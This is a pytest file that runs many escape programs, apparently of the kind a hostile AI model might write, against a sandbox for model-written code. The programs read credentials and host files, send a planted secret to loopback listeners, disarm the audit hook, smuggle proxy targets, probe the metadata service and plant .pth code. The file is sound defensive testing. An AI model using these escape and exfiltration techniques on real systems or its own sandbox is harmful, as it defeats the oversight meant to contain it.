"""Escape attempts against the real sandbox (bubblewrap + seccomp + guard proxy + audit hook).

Each attack is a small program.py of the kind a hostile or confused model could write. For every one:
the attempt does not succeed (the program never prints ``ESCAPED``), the run is reported as stopped
(not ``ok``), nothing changes outside the run directory, no connection or datagram reaches a real
loopback server the run did not allow, and no process of the run is alive afterwards.

Attacks on the caller instead (links, FIFOs and files it meets after the program ended; issue 29) run the
way ``scrapesmith run program.py`` does (``rerun_attack``): nothing outside the run directory changes, the
caller neither hangs nor reads an outside secret into what it writes, and a dataset it cannot read is one
line and a rerun marked failed.

Every attack must stay harmless should the sandbox ever regress: nothing here signals processes it
cannot see or forks without bound. (``kill(-1, SIGKILL)`` as root outside a PID namespace ends every
process on the machine; it is deliberately not among the attacks.)
"""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import errno
import gzip
import http.server
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest

import scrapesmith
from scrapesmith.collect.isolation import bwrap_path
from scrapesmith.collect.program import HostsNotAllowed, ReadRootsNotGranted, rerun_program, run_program_file
from scrapesmith.collect.sandbox import SandboxLimits, run_in_sandbox
from scrapesmith.errors import ScrapesmithError

pytestmark = pytest.mark.skipif(bwrap_path() is None, reason="bubblewrap is not installed (make bubblewrap)")

SECRET = "sk-planted-secret-0123456789"


class Listeners:
    """A TCP and a UDP server on 127.0.0.1 that record whatever reaches them; :meth:`drain` waits until
    everything sent to them before it was recorded (a marker sent last comes out of each queue last)."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        self.tcp.settimeout(0.2)
        self.seen: list[str] = []
        self._marker_tcp: tuple[str, int] | None = None
        self._marker_udp = b""
        self._drained_tcp, self._drained_udp = threading.Event(), threading.Event()
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=self._accept, daemon=True),
                         threading.Thread(target=self._receive, daemon=True)]
        for thread in self._threads:
            thread.start()

    @property
    def tcp_port(self) -> int:
        return self.tcp.getsockname()[1]

    @property
    def udp_port(self) -> int:
        return self.udp.getsockname()[1]

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, peer = self.tcp.accept()
            except OSError:
                continue
            if peer == self._marker_tcp:
                self._drained_tcp.set()
            else:
                self.seen.append(f"tcp from {peer}")
            conn.close()

    def _receive(self) -> None:
        while not self._stop.is_set():
            try:
                data, peer = self.udp.recvfrom(2048)
            except OSError:
                continue
            if data == self._marker_udp:
                self._drained_udp.set()
            else:
                self.seen.append(f"udp {data!r} from {peer}")

    def drain(self, timeout: float = 10.0) -> None:
        """Return once all that reached either server before this call is in :attr:`seen`: a connection and
        a datagram of our own go in behind it, and the servers take what is queued in order."""
        self._drained_tcp.clear()
        self._drained_udp.clear()
        self._marker_udp = f"drain {time.monotonic_ns()}".encode()
        with socket.socket() as marker:
            marker.bind(("127.0.0.1", 0))
            self._marker_tcp = marker.getsockname()
            marker.connect(("127.0.0.1", self.tcp_port))
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
                datagram.sendto(self._marker_udp, ("127.0.0.1", self.udp_port))
            assert self._drained_tcp.wait(timeout) and self._drained_udp.wait(timeout), "the listeners stopped"

    def close(self) -> None:
        self._stop.set()
        for thread in self._threads:
            thread.join(timeout=2)
        self.tcp.close()
        self.udp.close()


@pytest.fixture(scope="module")
def listeners():
    servers = Listeners()
    yield servers
    servers.close()


@pytest.fixture(scope="module")
def isolated(tmp_path_factory):
    """Before any attack: the sandbox really is in effect (own PID namespace, no /etc/passwd)."""
    run_dir = tmp_path_factory.mktemp("probe")
    program = run_dir / "program.py"
    program.write_text("import os\nprint(os.getpid(), os.path.exists('/etc/passwd'))\n")
    result = run_in_sandbox(program, run_dir, [])
    if not (result.ok and result.isolated and result.stdout.split() == ["2", "False"]):
        pytest.fail(f"the sandbox is not in effect, refusing to run the attacks: {result.stdout} {result.stderr}")


@pytest.fixture()
def victim():
    """A process outside the sandbox that nothing inside may signal."""
    process = subprocess.Popen(["sleep", "120"])
    yield process
    process.kill()
    process.wait()


@pytest.fixture()
def arena(tmp_path, listeners, monkeypatch, isolated):
    """A run directory inside ``tmp_path`` and planted bait outside it; the caller's env holds a secret."""
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim.txt").write_text("untouched")
    (outside / "secret.txt").write_text(SECRET)
    listeners.seen.clear()
    return run_dir, outside


def _snapshot(root: Path, skip: Path) -> dict[str, tuple[int, int, int, int]]:
    """Every entry under ``root`` but ``skip``: its time, size, owner and mode (a mode changed through a
    link leaves the time as it was)."""
    state = {}
    for path in root.rglob("*"):
        if skip == path or skip in path.parents:
            continue
        info = path.lstat()
        state[str(path)] = (info.st_mtime_ns, info.st_size, info.st_uid, info.st_mode)
    return state


def _alive(marker: str) -> list[str]:
    """Processes whose command line mentions ``marker`` (the program's unique path)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if marker in cmdline:
            found.append(f"{entry.name}: {cmdline}")
    return found


def assert_gone(marker: str, within: float = 5.0) -> bool:
    """No process whose command line names ``marker`` is left ``within`` seconds (the kernel ends a sandbox's
    PID namespace as it reaps its first process, which a run does not wait for)."""
    deadline = time.monotonic() + within
    while (alive := _alive(marker)) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert alive == [], alive
    return True


def attack(arena, listeners, body: str, wall: float = 20.0, allow: list[str] | None = None,
           read_roots: list[str] | None = None, limits: SandboxLimits | None = None, **names: str):
    """Run the attack ``body`` in the sandbox (``read_roots`` mounted read-only, as a local seed's are;
    ``limits`` instead of the wall time and 30 CPU seconds) and check every invariant; return the result."""
    run_dir, outside = arena
    tmp = run_dir.parent
    program = run_dir / "program.py"
    code = textwrap.dedent(body).format(outside=str(outside), tcp=listeners.tcp_port, udp=listeners.udp_port,
                                        run=str(run_dir), secret=SECRET, **names)
    program.write_text(code)
    before = _snapshot(tmp, run_dir)
    result = run_in_sandbox(program, run_dir, allow or [], limits or SandboxLimits(wall_seconds=wall, cpu_seconds=30),
                            read_roots=read_roots)
    assert_gone(str(program)) and assert_gone(str(run_dir))  # nothing of the run left to act after the checks
    listeners.drain()  # whatever the run sent either server is recorded by now
    assert "ESCAPED" not in result.stdout, result.stdout + result.stderr
    assert SECRET not in result.stdout + result.stderr
    assert not result.ok, f"the attack ran to the end unreported: {result.stdout} {result.stderr}"
    assert _snapshot(tmp, run_dir) == before, "something changed outside the run directory"
    assert (outside / "victim.txt").read_text() == "untouched"
    assert listeners.seen == [], listeners.seen
    return result


def test_reading_etc_passwd(arena, listeners):
    attack(arena, listeners, """
        print("ESCAPED" if "root:" in open("/etc/passwd").read() else "no passwd")
    """)


def test_reading_the_parents_environ_for_a_planted_key(arena, listeners):
    attack(arena, listeners, """
        import os, pathlib
        for entry in pathlib.Path("/proc").iterdir():
            if entry.name.isdigit():
                try:
                    if b"{secret}" in (entry / "environ").read_bytes():
                        print("ESCAPED")
                except OSError:
                    pass
        open(f"/proc/{{os.getppid()}}/environ").read()  # the parent, if it were visible
        raise SystemExit("ppid environ readable" if os.getppid() > 1 else "no parent visible")
    """)


def test_the_environment_is_scrubbed(arena, listeners):
    result = attack(arena, listeners, """
        import os
        if any("{secret}" in v for v in os.environ.values()) or "OPENAI_API_KEY" in os.environ:
            print("ESCAPED")
        raise SystemExit("env: " + ",".join(sorted(os.environ)))
    """)
    assert "OPENAI_API_KEY" not in result.stderr


def test_reading_ssh_keys_in_the_callers_home(arena, listeners):
    attack(arena, listeners, f"""
        import os
        print(os.listdir({str(Path.home() / ".ssh")!r}))
        print("ESCAPED")
    """)


def test_reading_a_host_file_outside_the_run_dir(arena, listeners):
    attack(arena, listeners, """
        print("ESCAPED", open("{outside}/secret.txt").read())
    """)


def test_writing_through_os_open_with_dir_fd(arena, listeners):
    attack(arena, listeners, """
        import os
        parent = os.open("..", os.O_RDONLY)
        fd = os.open("escape.txt", os.O_CREAT | os.O_WRONLY, dir_fd=parent)
        os.write(fd, b"x")
        print("ESCAPED")
    """)


def test_writing_with_sqlite_outside(arena, listeners):
    attack(arena, listeners, """
        import sqlite3
        db = sqlite3.connect("{outside}/stolen.db")
        db.execute("create table t (x)")
        db.commit()
        print("ESCAPED")
    """)


def test_mkfifo_outside(arena, listeners):
    attack(arena, listeners, """
        import os
        os.mkfifo("{outside}/pipe")
        print("ESCAPED")
    """)


def test_utime_of_a_host_file(arena, listeners):
    attack(arena, listeners, """
        import os
        os.utime("{outside}/victim.txt", (0, 0))
        print("ESCAPED")
    """)


def test_chown_of_a_file(arena, listeners):
    attack(arena, listeners, """
        import os
        open("mine.txt", "w").write("x")
        os.chown("mine.txt", 1234, 1234)
        os.chown("{outside}/victim.txt", 1234, 1234)
        print("ESCAPED")
    """)


def test_monkeypatched_realpath_then_write_outside(arena, listeners):
    attack(arena, listeners, """
        import os.path
        os.path.realpath = lambda path, **kw: "{run}/fine.txt"
        open("{outside}/escape.txt", "w").write("x")
        print("ESCAPED")
    """)


def test_writing_through_proc_self_fd(arena, listeners):
    attack(arena, listeners, """
        import os
        fd = os.open(".", os.O_RDONLY)
        open(f"/proc/self/fd/{{fd}}/../escape.txt", "w").write("x")
        print("ESCAPED")
    """)


def test_writing_into_the_virtualenv_and_package(arena, listeners):
    attack(arena, listeners, """
        import sys, scrapesmith, os
        target = os.path.join(os.path.dirname(scrapesmith.__file__), "planted.py")
        fd = os.open(target, os.O_CREAT | os.O_WRONLY)
        print("ESCAPED", target)
    """)


def test_disarming_the_hook_through_frames_and_gc_then_escaping(arena, listeners):
    """Rewrite the audit hook's closure (its run directory and allow-list) through ``gc``, then try everything."""
    attack(arena, listeners, """
        import gc, os, socket, sys, pathlib
        for obj in gc.get_objects():
            if callable(obj) and getattr(obj, "__name__", "") == "hook" and getattr(obj, "__closure__", None):
                for cell in obj.__closure__:
                    if isinstance(cell.cell_contents, pathlib.Path):
                        cell.cell_contents = pathlib.Path("/")
                    elif isinstance(cell.cell_contents, set):
                        cell.cell_contents.add(("127.0.0.1", {tcp}))
        frame = sys._getframe()
        while frame.f_back:
            frame = frame.f_back
        frame.f_globals.get("__builtins__")
        try:
            socket.create_connection(("127.0.0.1", {tcp}), timeout=3)
            print("ESCAPED tcp")
        except OSError as exc:
            print("connect failed:", exc)
        try:
            open("{outside}/escape.txt", "w").write("x")
            print("ESCAPED write")
        except OSError as exc:
            print("write failed:", exc)
        os.system("touch {outside}/by-system")
        raise SystemExit("still confined")
    """)


def test_ctypes_system(arena, listeners):
    attack(arena, listeners, """
        import ctypes
        status = ctypes.CDLL(None).system(b"touch {outside}/by-ctypes; echo ESCAPED")
        raise SystemExit(f"system() returned {{status}}")
    """)


def test_ctypes_connect_to_a_loopback_server(arena, listeners):
    attack(arena, listeners, """
        import ctypes, socket, struct
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
        addr = struct.pack("!HH4s8x", socket.AF_INET, {tcp}, socket.inet_aton("127.0.0.1"))
        addr = struct.pack("=H", socket.AF_INET) + addr[2:]
        if libc.connect(fd, addr, len(addr)) == 0:
            print("ESCAPED")
        raise SystemExit(f"connect failed, errno {{ctypes.get_errno()}}")
    """)


def test_posixsubprocess_fork_exec(arena, listeners):
    attack(arena, listeners, """
        import _posixsubprocess, os, sys
        args = [b"/bin/sh", b"-c", b"touch {outside}/by-fork-exec; echo ESCAPED"]
        pid = _posixsubprocess.fork_exec(args, [args[0]], True, (), None, None, -1, -1, -1, -1, -1, -1,
                                         *os.pipe(), False, False, -1, None, None, None, -1, None, False)
        os.waitpid(pid, 0)
    """)


def test_multiprocessing_child(arena, listeners):
    attack(arena, listeners, """
        import multiprocessing
        def child():
            open("{outside}/by-child", "w").write("x")
            print("ESCAPED")
        if __name__ == "__main__":
            process = multiprocessing.get_context("fork").Process(target=child)
            process.start()
            process.join()
    """)


def test_udp_sendto(arena, listeners):
    attack(arena, listeners, """
        import socket
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.sendto(b"leak {secret}", ("127.0.0.1", {udp}))
        print("sent")
    """)


def test_udp_sendto_through_ctypes(arena, listeners):
    attack(arena, listeners, """
        import ctypes, socket, struct
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0)
        addr = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", {udp}, socket.inet_aton("127.0.0.1"))
        sent = libc.sendto(fd, b"leak", 4, 0, addr, len(addr))
        raise SystemExit(f"sendto returned {{sent}}, errno {{ctypes.get_errno()}}")
    """)


def test_killing_a_process_outside(arena, listeners, victim):
    attack(arena, listeners, f"""
        import os, signal
        os.kill({victim.pid}, signal.SIGKILL)
        print("ESCAPED")
    """)
    assert victim.poll() is None, "a process outside the sandbox was killed"


def test_fork_bomb(arena, listeners):
    attack(arena, listeners, """
        import ctypes
        libc = ctypes.CDLL(None)
        children = []
        for _ in range(200):  # bounded and not recursive, so a regression fails the test, not the machine
            pid = libc.fork()
            if pid == 0:
                libc._exit(0)
            children.append(pid)
        if all(pid < 0 for pid in children):
            raise SystemExit("fork refused every time")
        print("ESCAPED", children[:5])
    """, wall=15)


def test_os_fork_and_system(arena, listeners):
    attack(arena, listeners, """
        import os
        os.system("touch {outside}/by-os-system")
        os.fork()
        print("ESCAPED")
    """)


def test_setsid_grandchild_does_not_outlive_the_wall_limit(arena, listeners):
    run_dir, _outside = arena
    result = attack(arena, listeners, """
        import ctypes, os, time
        libc = ctypes.CDLL(None)
        if libc.fork() == 0:
            libc.setsid()
            if libc.fork() == 0:
                time.sleep(4)
                open("{run}/grandchild-was-here", "w").write("x")
                print("ESCAPED")
            os._exit(0)
        time.sleep(30)
    """, wall=2)
    assert result.reason == "wall-limit"
    # attack() saw no process of the run left: the grandchild cannot write its file later
    assert not (run_dir / "grandchild-was-here").exists()


def test_raw_socket_to_an_unallowed_server(arena, listeners):
    attack(arena, listeners, """
        import socket
        socket.create_connection(("127.0.0.1", {tcp}), timeout=3)
        print("ESCAPED")
    """)


def test_talking_to_the_proxy_directly_about_an_unallowed_server(arena, listeners):
    result = attack(arena, listeners, """
        import os, socket
        path = os.environ["SCRAPESMITH_SANDBOX_PROXY"].removeprefix("unix:")
        answers = []
        for request in (b"GET http://127.0.0.1:{tcp}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
                        b"CONNECT 127.0.0.1:{tcp} HTTP/1.1\\r\\n\\r\\n",
                        b"CONNECT 169.254.169.254:80 HTTP/1.1\\r\\n\\r\\n"):
            conn = socket.socket(socket.AF_UNIX)
            conn.connect(path)
            conn.sendall(request)
            answers.append(conn.recv(200).split(b"\\r\\n")[0])
        if any(b" 200 " in a for a in answers):
            print("ESCAPED", answers)
        raise SystemExit(f"proxy answered {{answers}}")
    """)
    assert "403" in result.stderr and "not allowed for this run" in result.stderr


def test_program_allowing_itself_the_metadata_service(arena, listeners):
    result = attack(arena, listeners, """
        from scrapesmith.collect.runtime import Collection
        ALLOW_HOSTS = ["169.254.169.254:80", "127.0.0.1:{tcp}"]
        with Collection("p", allow_hosts=ALLOW_HOSTS, delay=0) as run:
            for url in ("http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:{tcp}/"):
                try:
                    run.fetch(url)
                    print("ESCAPED", url)
                except Exception as exc:
                    print("refused:", exc)
            raise SystemExit("nothing fetched")
    """)
    assert "169.254.169.254:80 is not allowed for this run" in result.stdout
    assert f"127.0.0.1:{listeners.tcp_port} is not allowed for this run" in result.stdout


def test_rerun_refuses_a_program_that_allows_itself_hosts(arena, listeners):
    run_dir, _outside = arena
    program = run_dir / "program.py"
    program.write_text('ALLOW_HOSTS = ["169.254.169.254:80"]\nprint("ESCAPED")\n')
    with pytest.raises(HostsNotAllowed, match=r"declares ALLOW_HOSTS 169\.254\.169\.254:80.*cannot allow itself"):
        run_program_file(program, [])
    assert not (run_dir / "dataset.csv").exists()


def test_a_local_seed_root_is_read_only_and_nothing_beside_it_is_readable(arena, listeners):
    """A program reading saved pages (``collect --seed DIR``) sees that directory read-only and nothing
    next to it: not by path, not by ``..``, not through a link inside the root, not through the runtime's
    file route, and it cannot write into the root even past the audit hook (ctypes ``open``)."""
    run_dir, outside = arena
    root = run_dir.parent / "saved"
    root.mkdir()
    (root / "page.html").write_text("<p>inside the root</p>")
    (root / "link.html").symlink_to(outside / "secret.txt")
    result = attack(arena, listeners, """
        import ctypes, os
        from scrapesmith.collect.runtime import Collection
        for path in ("{outside}/secret.txt", "{root}/../outside/secret.txt", "{root}/link.html"):
            try:
                print("ESCAPED", path, open(path).read())
            except OSError as exc:
                print("refused", path, type(exc).__name__)
        for place in ("{outside}", os.path.dirname("{root}")):
            try:  # the parent holds the mount points only
                others = [n for n in os.listdir(place) if n not in ("saved", "run")]
                print("ESCAPED listing" if others else "nothing else in", place, others)
            except OSError as exc:
                print("no listing", place, type(exc).__name__)
        with Collection("local", read_roots=["{root}"], delay=0) as run:
            print("control:", run.fetch("file://{root}/page.html").text)
            for url in ("file://{outside}/secret.txt", "file://{root}/link.html", "{root}/../outside/secret.txt"):
                try:
                    print("ESCAPED", url, run.fetch(url).text)
                except Exception as exc:
                    print("refused", url, exc)
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.open(b"{root}/page.html", os.O_WRONLY | os.O_APPEND)
        if fd >= 0 and libc.write(fd, b"changed", 7) == 7:
            print("ESCAPED write into the root")
        print("write refused, errno", ctypes.get_errno())
        raise SystemExit("nothing outside the root was readable")
    """, read_roots=[str(root)], root=str(root))
    assert "control: <p>inside the root</p>" in result.stdout  # the root itself is there
    assert sum(line.startswith("refused ") for line in result.stdout.splitlines()) == 6, result.stdout
    assert "outside the local roots this run may read" in result.stdout
    assert f"write refused, errno {errno.EROFS}" in result.stdout
    assert (root / "page.html").read_text() == "<p>inside the root</p>"


def test_rerun_refuses_a_program_that_grants_itself_files(arena, listeners):
    run_dir, outside = arena
    program = run_dir / "program.py"
    program.write_text(f'READ_ROOTS = [{str(outside)!r}]\nprint("ESCAPED", open({str(outside / "secret.txt")!r}).read())\n')
    with pytest.raises(ReadRootsNotGranted, match=r"declares READ_ROOTS .*outside.*cannot grant itself") as raised:
        run_program_file(program, [])
    assert raised.value.roots == [str(outside)]  # the command line names them in --allow-read (cli/hints.py)
    with pytest.raises(ScrapesmithError, match=r"declares READ_ROOTS"):
        run_program_file(program, [], allow_read=[str(run_dir)])  # a grant elsewhere is not this root
    assert not (run_dir / "dataset.csv").exists()


def test_symlink_out_of_the_run_dir(arena, listeners):
    attack(arena, listeners, """
        import os
        os.symlink("{outside}", "link")
        print("ESCAPED", open("link/secret.txt").read())
    """)


def test_abstract_unix_socket_and_host_sockets(arena, listeners):
    attack(arena, listeners, """
        import ctypes, socket, glob
        libc = ctypes.CDLL(None, use_errno=True)
        reached = []
        for path in glob.glob("/run/*.sock") + glob.glob("/var/run/*.sock") + glob.glob("/tmp/.X11-unix/*"):
            reached.append(path)
        fd = libc.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0)
        addr = (1).to_bytes(2, "little") + b"\\0/tmp/.X11-unix/X0"
        if libc.connect(fd, addr, len(addr)) == 0:
            reached.append("abstract X0")
        if reached:
            print("ESCAPED", reached)
        raise SystemExit("no host socket reachable")
    """)


def _caller_running_a_sleeper(arena) -> tuple[Path, subprocess.Popen]:
    """A caller process running a program that sleeps ten minutes in the sandbox (far past any wait here: a
    sandbox still there at the end of one was left running)."""
    run_dir, _outside = arena
    program = run_dir / "program.py"
    program.write_text("import time\ntime.sleep(600)\n")
    caller = subprocess.Popen([
        sys.executable, "-c",
        ("from scrapesmith.collect.sandbox import run_in_sandbox; "
         f"run_in_sandbox({str(program)!r}, {str(run_dir)!r}, [])")],
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2] / "src")})
    return program, caller


def _kill_and_expect_nothing_left(caller: subprocess.Popen, program: Path) -> None:
    """SIGKILL the caller (no cleanup); soon no process may still name the program. Killed during the setup, the
    sandbox may still start its guard, which sees the caller gone and ends before the program runs: on a loaded
    machine that takes seconds, so the wait is long (it ends the moment nothing is left). What a failure leaves
    is killed, so that it does not sleep on."""
    caller.send_signal(signal.SIGKILL)
    caller.wait()
    try:
        assert_gone(str(program), within=30.0)
    finally:
        for line in _alive(str(program)):
            with contextlib.suppress(ProcessLookupError):
                os.kill(int(line.split(":", 1)[0]), signal.SIGKILL)


def test_a_killed_caller_takes_the_sandbox_with_it(arena, listeners):
    """``--die-with-parent``: the caller dies (SIGKILL, no cleanup), the sandboxed program dies too."""
    program, caller = _caller_running_a_sleeper(arena)
    # the program itself, not the shell or bwrap whose command lines name it too: killing the caller while
    # the sandbox is still being set up (before bwrap asks to die with its parent) is another case
    guard = f"{sys.executable} -B -m scrapesmith.collect.guard {program}"

    def started() -> bool:
        return any(line.split(": ", 1)[1].startswith(guard) for line in _alive(str(program)))

    deadline = time.monotonic() + 20
    while not started() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert started(), "the sandboxed program never started"
    _kill_and_expect_nothing_left(caller, program)


def test_a_caller_killed_while_the_sandbox_is_set_up_takes_it_with_it(arena, listeners):
    """The caller dies the instant the shell or bwrap appears, before bwrap asks to die with its parent: the
    child asked it from its first instant, so nothing is left (before that, 8 of 8 such kills left bwrap and
    a sleeping program running, with no caller to stop them). bwrap's own child, the sandbox's first process,
    asks it only at the end of its setup: a kill during that setup (likelier on a loaded machine) left it and
    the program running (3 of 12 runs under load) until the caller's end of a pipe closing took its process
    group and the guard with it (``guard.end_with_caller``)."""
    program, caller = _caller_running_a_sleeper(arena)
    deadline = time.monotonic() + 20
    while not _alive(f"guard {program}") and time.monotonic() < deadline:
        time.sleep(0.002)
    assert _alive(f"guard {program}"), "the sandbox was never started"
    _kill_and_expect_nothing_left(caller, program)


def test_new_namespaces_from_inside(arena, listeners):
    """A fresh user namespace would hand the program capabilities (mount, network setup) inside it."""
    attack(arena, listeners, """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET = 0x10000000, 0x00020000, 0x40000000
        for flags in (CLONE_NEWUSER, CLONE_NEWUSER | CLONE_NEWNS, CLONE_NEWNET):
            if libc.unshare(flags) == 0:
                print("ESCAPED", hex(flags))
        fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
        if libc.setns(fd, 0) == 0:
            print("ESCAPED setns")
        raise SystemExit(f"unshare/setns refused, errno {{ctypes.get_errno()}}")
    """)


def test_rewriting_the_guards_globals_through_sys_getframe(arena, listeners):
    """Find the guard's module through the call stack and neuter its refusals; the OS still holds."""
    attack(arena, listeners, """
        import os, socket, sys
        frame = sys._getframe()
        while frame is not None and "_refuse" not in frame.f_globals:
            frame = frame.f_back
        if frame is None:
            raise SystemExit("guard frame not found")
        frame.f_globals["_refuse"] = lambda message: None
        escaped = []
        try:
            open("{outside}/via-globals.txt", "w").write("x")
            escaped.append("write")
        except OSError as exc:
            print("write failed:", exc)
        try:
            socket.create_connection(("127.0.0.1", {tcp}), timeout=3)
            escaped.append("connect")
        except OSError as exc:
            print("connect failed:", exc)
        status = os.system("touch {outside}/via-system")
        if escaped:
            print("ESCAPED", escaped)
        raise SystemExit(f"hook disarmed, still confined (system status {{status}})")
    """)


# ---- The proxy's request target, links and FIFOs the parent meets, memory, disk, output, stdin (issue 29) ----

PASSWORD = "pw-in-a-redirect-0123"


def _limits(**fields) -> SandboxLimits:
    """Limits for one attack. Fields a sandbox does not know are left out: the attacks also run against
    the commit before issue 29 (PYTHONPATH to its tree), which had no disk quota, to show they succeed there."""
    known = {field.name for field in dataclasses.fields(SandboxLimits)}
    return SandboxLimits(**{name: value for name, value in fields.items() if name in known})


def _chars(text: str) -> str:
    """``text`` as a Python expression without quotes (which an HTML report would escape)."""
    return "+".join(f"chr({ord(c)})" for c in text)


@pytest.fixture(scope="module")
def allowed_port():
    """A loopback TCP server the run allows: the port a smuggled CONNECT target is checked against."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError):
                server.accept()[0].close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1]
    stop.set()
    thread.join(timeout=2)
    server.close()


@pytest.fixture(scope="module")
def redirecting_site(listeners):
    """An allowed loopback site whose redirects carry credentials: to itself, and to a port not allowed."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            port = self.server.server_address[1]
            targets = {"/start": f"http://user:{PASSWORD}@127.0.0.1:{port}/landing",
                       "/elsewhere": f"http://user:{PASSWORD}@127.0.0.1:{listeners.tcp_port}/"}
            if self.path in targets:
                self.send_response(302)
                self.send_header("Location", targets[self.path])
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            body = b"<html><body><p>landed</p></body></html>"
            self.send_response(404 if self.path == "/robots.txt" else 200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args) -> None:
            return

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


SMUGGLED_PORT = ["/x:{tcp}", "?:{tcp}", "#:{tcp}"]


@pytest.mark.parametrize("smuggled", SMUGGLED_PORT, ids=["slash", "question-mark", "hash"])
def test_connect_target_smuggling_another_port_past_the_check(arena, listeners, allowed_port, smuggled):
    """``CONNECT 127.0.0.1:A/x:B``: a lenient parse checked port A and tunnelled to port B."""
    result = attack(arena, listeners, """
        import os, socket
        conn = socket.socket(socket.AF_UNIX)
        conn.connect(os.environ["SCRAPESMITH_SANDBOX_PROXY"].removeprefix("unix:"))
        conn.sendall(b"CONNECT 127.0.0.1:{allowed}{smuggled} HTTP/1.1\\r\\n\\r\\n")
        answer = conn.recv(200).split(b"\\r\\n")[0]
        if b" 200 " in answer:
            print("ESCAPED", answer)
        raise SystemExit(f"proxy answered {{answer}}")
    """, allow=[f"127.0.0.1:{allowed_port}"], allowed=str(allowed_port),
        smuggled=smuggled.format(tcp=listeners.tcp_port))
    assert "400" in result.stderr


@pytest.mark.parametrize("smuggled", SMUGGLED_PORT, ids=["slash", "question-mark", "hash"])
def test_connect_target_smuggling_another_port_through_the_browsers_proxy(listeners, allowed_port, smuggled):
    """The same request to the proxy Chromium's traffic goes through (``GuardProxy`` on loopback TCP)."""
    from scrapesmith.web.browser.proxy import GuardProxy
    from scrapesmith.web.safety import AddressGuard

    listeners.seen.clear()
    proxy = GuardProxy(AddressGuard([f"127.0.0.1:{allowed_port}"]))
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    try:
        address = asyncio.run_coroutine_threadsafe(proxy.start(), loop).result(timeout=10)
        host, port = address.removeprefix("http://").split(":")
        with socket.create_connection((host, int(port)), timeout=10) as conn:
            target = f"127.0.0.1:{allowed_port}{smuggled.format(tcp=listeners.tcp_port)}"
            conn.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
            answer = conn.recv(200).split(b"\r\n")[0]
    finally:
        asyncio.run_coroutine_threadsafe(proxy.close(), loop).result(timeout=10)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(timeout=5)
        loop.close()
    listeners.drain()  # the proxy is closed: whatever it sent the servers is recorded by now
    assert b" 200 " not in answer, answer
    assert listeners.seen == [], listeners.seen


def rerun_attack(arena, body: str, output: str | None = None, **names: str) -> ScrapesmithError | None:
    """Run the attack ``body`` the way ``scrapesmith run program.py [-o OUT]`` does, then check that the
    parent wrote and read nothing outside the run directory and that no secret reached what it wrote;
    returns the one-line error of a failed rerun (``None`` when it succeeded)."""
    run_dir, outside = arena
    program = run_dir / "program.py"
    program.write_text(textwrap.dedent(body).format(outside=str(outside), secret=SECRET, **names))
    before = _snapshot(run_dir.parent, run_dir)
    try:
        rerun_program(program, [], run_dir / output if output else None, _limits(wall_seconds=20, cpu_seconds=30))
        error = None
    except ScrapesmithError as exc:
        error = exc
    assert_gone(str(program))  # no process of the run left to change anything after the check below
    assert _snapshot(run_dir.parent, run_dir) == before, "something changed outside the run directory"
    assert (outside / "victim.txt").read_text() == "untouched"
    written = [p for p in run_dir.rglob("*") if p.is_file() and not p.is_symlink() and p != program]
    assert not [p for p in written if SECRET.encode() in p.read_bytes()], "an outside secret was read in"
    return error


@pytest.mark.parametrize("name", ["rerun.run.json", "rerun.report.html"])
def test_a_link_the_parent_writes_its_record_or_report_through(arena, name):
    rerun_attack(arena, """
        import ctypes
        ctypes.CDLL(None).symlink(b"{outside}/victim.txt", b"{name}")  # past the audit hook
        open("dataset.csv", "w").write("title\\nplanted\\n")
    """, name=name)


def test_a_link_to_a_pth_file_turning_the_report_into_code(arena, tmp_path):
    """The report copies the program's lines; written through a link into a ``.pth`` file, a line of it
    starting with ``import`` runs in every later Python that reads that folder."""
    _run_dir, outside = arena
    rerun_attack(arena, f"""
        import ctypes
        import os; os.environ.get({_chars("PTH_PROBE")}) and print({_chars("ESCAPED")})
